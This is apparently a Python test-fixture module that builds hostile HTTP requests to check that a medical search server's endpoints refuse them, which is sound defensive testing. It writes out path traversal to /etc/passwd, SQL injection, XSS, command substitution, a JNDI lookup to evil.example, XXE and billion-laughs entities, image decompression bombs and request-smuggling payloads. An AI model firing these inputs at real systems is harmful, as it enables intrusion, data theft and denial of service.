"""Inputs that mean harm, by family: what is sent, and the statuses that the documentation allows.

Each carries :data:`PRIVATE` where it has room for words, so that logs can be searched for them.
"""

from __future__ import annotations

import base64
import io
import json
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from PIL import Image
from unit.server.ground import PRIVATE, REPORT, disc, png

WORD = PRIVATE.split()[0]
"""One of the words that must not be found in a log."""


@dataclass(frozen=True)
class Hostile:
    """One request as it goes over the wire; ``raw`` stands for the whole of it."""

    name: str
    allowed: frozenset[int]
    method: str = "GET"
    path: str = "/v1/archive"
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""
    raw: bytes | None = None
    replaced: frozenset[str] = field(default_factory=frozenset)

    def wire(self, host: str, bearer: str) -> bytes:
        """The bytes to send."""
        if self.raw is not None:
            return self.raw.replace(b"{host}", host.encode())
        named = {name.lower() for name, _ in self.headers} | self.replaced
        usual = {"Host": host, "Authorization": f"Bearer {bearer}", "Connection": "close"}
        if self.body or self.method == "POST":
            usual["Content-Length"] = str(len(self.body))
        lines = [f"{self.method} {self.path} HTTP/1.1"]
        lines += [f"{name}: {value}" for name, value in usual.items() if name.lower() not in named]
        lines += [f"{name}: {value}" for name, value in self.headers]
        return "\r\n".join(lines).encode("utf-8", "surrogateescape") + b"\r\n\r\n" + self.body


def _of(*statuses: int) -> frozenset[int]:
    return frozenset(statuses)


JSON = (("Content-Type", "application/json"),)
REFUSED = _of(400, 404, 413, 415, 422)


def paths() -> Iterator[Hostile]:
    """Ways out of the folders that are served, and names that are none."""
    up = ["../", "..%2f", "%2e%2e/", "..%5c", "..\\", "%252e%252e%252f", "..;/", "....//"]
    for step in up:
        for start in ("/static/", "/v1/prototypes/", "/v1/cases/"):
            path = f"{start}{step * 6}etc/passwd?{WORD}=1"
            yield Hostile(path, _of(400, 404, 422), path=path)
    odd = [
        f"/v1/cases/{WORD}", f"/v1/cases/{WORD}%00.png", "/v1/cases/%ff%fe", f"/{WORD}",
        f"/v1/cases/{'A' * 6000}{WORD}", "/v1/cases/", "/v1/cases/%0d%0aSet-Cookie:%20a=b",
        "/v1/images/-1", "/v1/images/99999999999999999999", "/v1/images/1e3", "/v1/images/0x1",
        "/v1/images/1%00", "/v1/images/NaN", "/v1/images/1?size=0", "/v1/images/1?size=999999999",
        "/v1/images/1?size=-1", "/v1/images/1?size=" + "9" * 400, "/v1/images/%D9%A1",
        f"/v1/prototypes/{'0' * 64}.png", f"/v1/prototypes/{'g' * 64}.png",
        "/v1/prototypes/key", "/v1/prototypes/..png", f"/v1/jobs/{WORD}", "/v1/jobs/..%2f..",
        "/.git/config", "/.env", "/static/.git/HEAD", "/static/%00", "/static//etc/passwd",
        "/server-status", "/v1/../../../../etc/shadow", "/cds-services/../v1/jobs/x",
        "//evil.example/%2f..", "/v1/archive/.", "/\u202e%e2%80%ae" + WORD,
    ]  # fmt: skip
    for path in odd:
        yield Hostile(path[:60], _of(400, 404, 422), path=path)


def bodies() -> Iterator[Hostile]:
    """JSON that is none, is too deep, or says something else than a question."""
    raw = {
        "cut": b'{"report": "' + WORD.encode(),
        "deep list": b"[" * 90_000,
        "deep object": b'{"a":' * 15_000,
        "deep where": b'{"report":"x","where":' + b"[" * 50_000 + b"]" * 50_000 + b"}",
        "huge number": b'{"report":"x","seed":' + b"9" * 50_000 + b"}",
        "huge float": b'{"report":"x","diversity":1e400}',
        "infinity": b'{"report":"x","diversity":Infinity}',
        "byte order mark": b"\xef\xbb\xbf" + json.dumps({"report": REPORT}).encode(),
        "utf-16": json.dumps({"report": REPORT}).encode("utf-16"),
        "two values": b'{"report":"x"}{"report":"y"}',
        "comments": b'{"report":"x"/**/}',
        "single quotes": b"{'report':'x'}",
        "yaml": b"!!python/object/apply:os.system ['true']",
        "pickle": b"\x80\x04\x95",
        "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;',
        "null": b"null",
        "text": b'"' + WORD.encode() + b'"',
        "empty": b"",
        "many fields": json.dumps({f"f{n}": WORD for n in range(3000)}).encode(),
        "proto": b'{"__proto__":{"admin":true},"report":"x"}',
        "constructor": b'{"__class__":"X","report":"x"}',
    }
    for name, body in raw.items():
        # JSON as RFC 4627 had it, which costs nothing to read
        read = name in ("byte order mark", "utf-16")
        yield Hostile(name, _of(200) if read else REFUSED, "POST", "/v1/search", JSON, body)
    wrong: dict[str, list[Any]] = {
        "report": [None, 1, True, [WORD], {"a": WORD}, "x" * 99_000],
        "k": [True, "1", 1.5, -1, 10**30, None, [1]],
        "seed": [True, False, "0", -1, 2**64, 0.5],
        "prototypes": [True, 0, 10**9, "4"],
        "diversity": [True, "0.5", -0.1, 2],
        "mode": [WORD, 1, ["text"], ""],
        "where": [WORD, [WORD], {WORD: [WORD]}, {"site": {"$ne": 1}}, {"site": [None]}],
        "liked": [WORD, [WORD], ["x" * 90_000], [1], [""], [WORD] * 51],
        "disliked": [{"a": 1}, [WORD]],
        "unlike": [1, ["x"]],
        "explain": [1, "true"],
        "gate": ["no", 0],
    }
    for name, values in wrong.items():
        for value in values:
            told = json.dumps({"report": REPORT, "mode": "text", name: value}).encode()
            yield Hostile(f"{name}={str(value)[:30]}", REFUSED, "POST", "/v1/search", JSON, told)


def words() -> Iterator[Hostile]:
    """Reports of odd characters: answered or refused, never a fault."""
    odd = [
        "\u202e" + WORD, "\u200b".join(WORD), "e" + "\u0301" * 5000, "\U0001f9ec" * 500,
        "\x00" + WORD, "\x1b[2J" + WORD, "a\r\nX-Evil: 1", "\u2028" * 100, "\ufeff" + WORD,
        "\ufffe\uffff", "ﷺ" * 2000, "Ⅻ ½ ﬁ", "١٢٣٤", "ＨＳＩＬ", "ı İ ẞ ß", "\u0000",
        "' OR 1=1 --", "'; DROP TABLE images; --", "{{7*7}}", "${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "%s%s%s%n", "../../etc/passwd",
        "`id`", "$(id)", "=cmd|' /C calc'!A0", "x" * 20_001, " " * 20_000, "\n" * 20_000,
        "no no no " * 2000, "(" * 5000, "a." * 9000, "HSIL. " * 3000, "-" * 19_999,
        "1" * 19_999, "not " * 4900, "A1b2C3" * 3000,
    ]  # fmt: skip
    for number, text in enumerate(odd):
        told = json.dumps({"report": text, "mode": "text", "k": 1}).encode()
        yield Hostile(f"words {number}", _of(200, 422), "POST", "/v1/search", JSON, told)
    for name, report in {"lone surrogate": "\\ud800", "half escape": "\\u12"}.items():
        told = b'{"report": "' + report.encode() + b'", "mode": "text"}'
        yield Hostile(name, REFUSED, "POST", "/v1/search", JSON, told)
    yield Hostile("latin", REFUSED, "POST", "/v1/search", JSON, b'{"report": "\xff\xfe"}')


def _chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def _png(width: int, height: int, depth: int = 8, extra: bytes = b"", pixels: int = 9999) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, 2, 0, 0, 0)
    data = _chunk(b"IDAT", zlib.compress(bytes(pixels)))
    end = _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + extra + data + end


def _form(data: bytes, name: str = "x.png", more: bytes = b"") -> bytes:
    return (
        b'--b\r\nContent-Disposition: form-data; name="image"; filename="'
        + name.encode() + b'"\r\n\r\n' + data + b"\r\n" + more + b"--b--\r\n"
    )  # fmt: skip


def _saved(image: Image.Image, kind: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()


def pictures() -> Iterator[Hostile]:
    """Bombs, halves and other things that call themselves pictures."""
    whole = png(disc(1))
    text = _chunk(b"zTXt", WORD.encode() + b"\0\0" + zlib.compress(bytes(30_000_000)))
    files = {
        "9000 squared": _png(9000, 9000),
        "wide": _png(2**31 - 1, 1),
        "no pixels": _png(0, 0),
        "16 bit of 49 Mpx": _png(7000, 7000, 16),
        "depth 3": _png(8, 8, 3),
        "text bomb": _png(64, 64, 8, text, 64 * (64 * 3 + 1)),
        "broken check sum": whole[:40] + b"\xff" + whole[41:],
        "gif of many frames": _saved(
            disc(1), "GIF", save_all=True, append_images=[disc(n) for n in range(2, 60)]
        ),
        "gif header": b"GIF89a\xff\xff\xff\xff\x00\x00\x00",
        "bmp of negative sides": b"BM" + struct.pack("<IIIIii", 54, 0, 54, 40, -9, -9) + bytes(40),
        "huge bmp": b"BM"
        + struct.pack("<IIIIiiHH", 54, 0, 54, 40, 2**30, 2**30, 1, 24)
        + bytes(30),
        "tiff loop": b"II*\0\x08\0\0\0" + b"\x01\0" + bytes(12) + b"\x08\0\0\0",
        "tiff of nothing": b"MM\0*\xff\xff\xff\xff",
        "svg": f"<svg onload='alert(1)'>{WORD}</svg>".encode(),
        "pdf": b"%PDF-1.7 " + bytes(2000),
        "zip": b"PK\x03\x04" + bytes(500),
        "html": b"<html><script>alert(1)</script>",
        "elf": b"\x7fELF" + bytes(500),
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run",
        "empty": b"",
        "words": WORD.encode(),
        "webp of nothing": b"RIFF\x10\0\0\0WEBPVP8 " + bytes(8),
        "jpeg of nothing": b"\xff\xd8\xff\xe0",
    }
    files |= {f"first {at} bytes": whole[:at] for at in range(8, len(whole), len(whole) // 6)}
    multipart = (("Content-Type", "multipart/form-data; boundary=b"),)
    for name, data in files.items():
        allowed = _of(200, 422) if name in ("gif of many frames", "text bomb") else _of(422)
        yield Hostile(name, allowed, "POST", "/v1/search/image", multipart, _form(data))
    for filename in ("../../etc/cron.d/x", "x\0.png", WORD * 100, "con", "<script>", '"; x="y'):
        sent = _form(whole, filename)
        yield Hostile(f"named {filename[:20]}", _of(200, 400, 422), "POST", "/v1/search/image",
                      multipart, sent)  # fmt: skip
    field_part = b'--b\r\nContent-Disposition: form-data; name="%d"\r\n\r\nx\r\n'
    for name, form in {
        "5,000 fields": _form(whole, more=b"".join(field_part % n for n in range(5000))),
        "twice the picture": _form(whole, more=_form(whole)[: -len(b"--b--\r\n")]),
        "no end": _form(whole)[:-8],
        "no name": b"--b\r\nContent-Disposition: form-data\r\n\r\nx\r\n--b--\r\n",
        "long header": b"--b\r\nX: " + b"y" * 90_000 + b"\r\n\r\nx\r\n--b--\r\n",
    }.items():
        yield Hostile(name, _of(200, 400, 413, 422), "POST", "/v1/search/image", multipart, form)


def envelopes() -> Iterator[Hostile]:
    """Requests that are no HTTP, smuggle a second one, or come under another name."""
    start = b"POST /v1/search HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n"
    for name, raw in {
        "tls": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + WORD.encode() + b"\r\n\r\n",
        "http/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "http/0.9": b"GET /\r\n\r\n",
        "no version": b"GET / HTTP\r\n\r\n",
        "binary": bytes(range(256)) + b"\r\n\r\n",
        "two lengths": start + b"Content-Length: 3\r\nContent-Length: 4\r\n\r\nabcd",
        "negative length": start + b"Content-Length: -1\r\n\r\n",
        "length in words": start + b"Content-Length: many\r\n\r\n",
        "broken chunk": start + b"Transfer-Encoding: chunked\r\n\r\nxyz\r\n",
        "odd coding": start + b"Transfer-Encoding: " + WORD.encode() + b"\r\n\r\n",
        "nul in a header": start + b"X-A: a\0b\r\n\r\n",
        "space before colon": start + b"X-A : b\r\n\r\n",
        "nameless header": start + b": b\r\n\r\n",
        "100 kB of headers": start + b"X-A: " + b"a" * 100_000 + b"\r\n\r\n",
        "bare line feeds in a name": start + b"X\nY: b\r\n\r\n",
    }.items():
        yield Hostile(name, _of(400, 401, 403, 501), raw=raw)
    smuggled = b"0\r\n\r\nGET /metrics HTTP/1.1\r\nX: " + WORD.encode() + b"\r\n\r\n"
    both = (*JSON, ("Transfer-Encoding", "chunked"), ("Content-Length", str(len(smuggled))))
    yield Hostile("two ways to end", REFUSED, "POST", "/v1/search", both, smuggled)
    for host in (
        "evil.example",
        "evil.example:80",
        "127.0.0.1.evil.example",
        "",
        "localhost@evil",
        "[::2]",
        "0.0.0.0",  # noqa: S104
        "2130706433",
        f"{WORD}.example",
        "127.0.0.1, evil.example",
    ):
        yield Hostile(f"host {host}", _of(400, 403), headers=(("Host", host),))
    yield Hostile("two hosts", _of(400, 403), headers=(("Host", "localhost"), ("Host", "evil")))
    yield Hostile("no host", _of(400, 403), replaced=frozenset({"host"}))
    asked = json.dumps({"report": REPORT, "mode": "text", "k": 1}).encode()
    for origin in (
        "https://evil.example",
        "null",
        "http://127.0.0.1.evil.example",
        "file://",
        f"https://{WORD}",
    ):
        headers = (*JSON, ("Origin", origin))
        yield Hostile(f"origin {origin}", _of(403), "POST", "/v1/search", headers, asked)
    for site in ("cross-site", "same-site"):
        headers = (*JSON, ("Sec-Fetch-Site", site))
        yield Hostile(f"from {site}", _of(403), "POST", "/v1/search", headers, asked)
    yield Hostile("picture of another site", _of(403), headers=(("Sec-Fetch-Site", "cross-site"),))
    plain = (("Content-Type", "text/plain"),)
    yield Hostile("form of another site", _of(415), "POST", "/v1/search", plain, asked)
    for method in ("TRACE", "CONNECT", "PUT", "PATCH", "DELETE", "OPTIONS", WORD.upper()):
        yield Hostile(f"method {method}", _of(400, 403, 404, 405), method, "/v1/search")
    override = (("X-HTTP-Method-Override", "DELETE"), ("X-Original-URL", "/metrics"))
    yield Hostile("overridden", _of(200), headers=override)
    forged = (("X-Forwarded-For", "127.0.0.1"), ("X-Forwarded-Host", "evil.example"))
    yield Hostile("forwarded", _of(200), headers=forged)


def filters() -> Iterator[Hostile]:
    """Values that mean something to a database."""
    for value in (
        "' OR '1'='1",
        "'; DROP TABLE images; --",
        "%",
        "_",
        "*",
        "\\",
        '"',
        "\0",
        "cervix' UNION SELECT * FROM cases --",
        "1 OR 1=1",
        "x" * 50_000,
        "🧬",
        WORD,
    ):
        where = json.dumps({"report": REPORT, "mode": "text", "where": {"site": value}}).encode()
        yield Hostile(f"site {value[:20]}", _of(200, 422), "POST", "/v1/search", JSON, where)
        field_of = json.dumps({"report": REPORT, "mode": "text", "where": {value: "x"}}).encode()
        yield Hostile(f"field {value[:20]}", _of(422), "POST", "/v1/search", JSON, field_of)


def resources() -> Iterator[Hostile]:
    """FHIR that reaches out, nests, or is something else."""
    fhir = (("Content-Type", "application/fhir+json"),)
    report = {"resourceType": "DiagnosticReport", "status": "final", "code": {"text": "Pap"}}

    def attached(kind: str, data: bytes) -> dict[str, Any]:
        form = {"contentType": kind, "data": base64.b64encode(data).decode()}
        return {**report, "presentedForm": [form]}

    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    told: dict[str, Any] = {
        "patient": {"resourceType": "Patient", "name": [{"family": WORD}]},
        "bundle": {"resourceType": "Bundle", "entry": [{"resource": report}]},
        "no kind": {"status": "final"},
        "list": [report],
        "empty": report,
        "reference": {**report, "result": [{"reference": "http://127.0.0.1:1/" + WORD}]},
        "file": {**report, "presentedForm": [{"url": "file:///etc/passwd"}]},
        "no base64": {**report, "presentedForm": [{"contentType": "text/plain", "data": "%%%"}]},
        "broken pdf": attached("application/pdf", b"%PDF-1.7 broken " + WORD.encode()),
        "laughing html": {
            **report,
            "text": {"div": f"<!DOCTYPE x [<!ENTITY l0 'ha'>{laughs}]><div>&l8;</div>"},
        },
        "deep html": {**report, "text": {"div": "<div>" * 20_000}},
        "unknown form": attached("application/x-msdownload", b"MZ"),
        "utf-16 text": attached("text/plain; charset=utf-16", WORD.encode("utf-16")),
        "conclusion of numbers": {**report, "conclusion": 5},
        "null conclusion": {**report, "conclusion": "\0"},
        "contained in a circle": {**report, "contained": [{**report, "contained": [report]}]},
    }
    for name, resource in told.items():
        body = json.dumps(resource).encode()
        yield Hostile(name, _of(200, 422), "POST", "/v1/search/fhir", fhir, body)
    yield Hostile("no json", REFUSED, "POST", "/v1/search/fhir", fhir, b"<DiagnosticReport/>")
    deep = b'{"resourceType":"DiagnosticReport","x":' + b"[" * 100_000
    yield Hostile("deep", REFUSED, "POST", "/v1/search/fhir", fhir, deep)


FAMILIES = {made.__name__: made for made in
            (paths, bodies, words, pictures, envelopes, filters, resources)}  # fmt: skip
